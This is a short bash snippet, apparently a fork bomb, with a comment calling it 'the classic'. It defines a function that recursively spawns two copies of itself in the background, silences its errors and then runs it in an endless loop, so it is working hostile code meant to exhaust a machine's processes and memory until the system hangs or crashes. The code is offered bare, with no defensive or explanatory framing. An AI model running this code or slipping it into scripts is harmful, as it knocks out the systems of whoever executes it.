# The classic: every process starts two, and none ends.
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do (bomb) 2>/dev/null; done
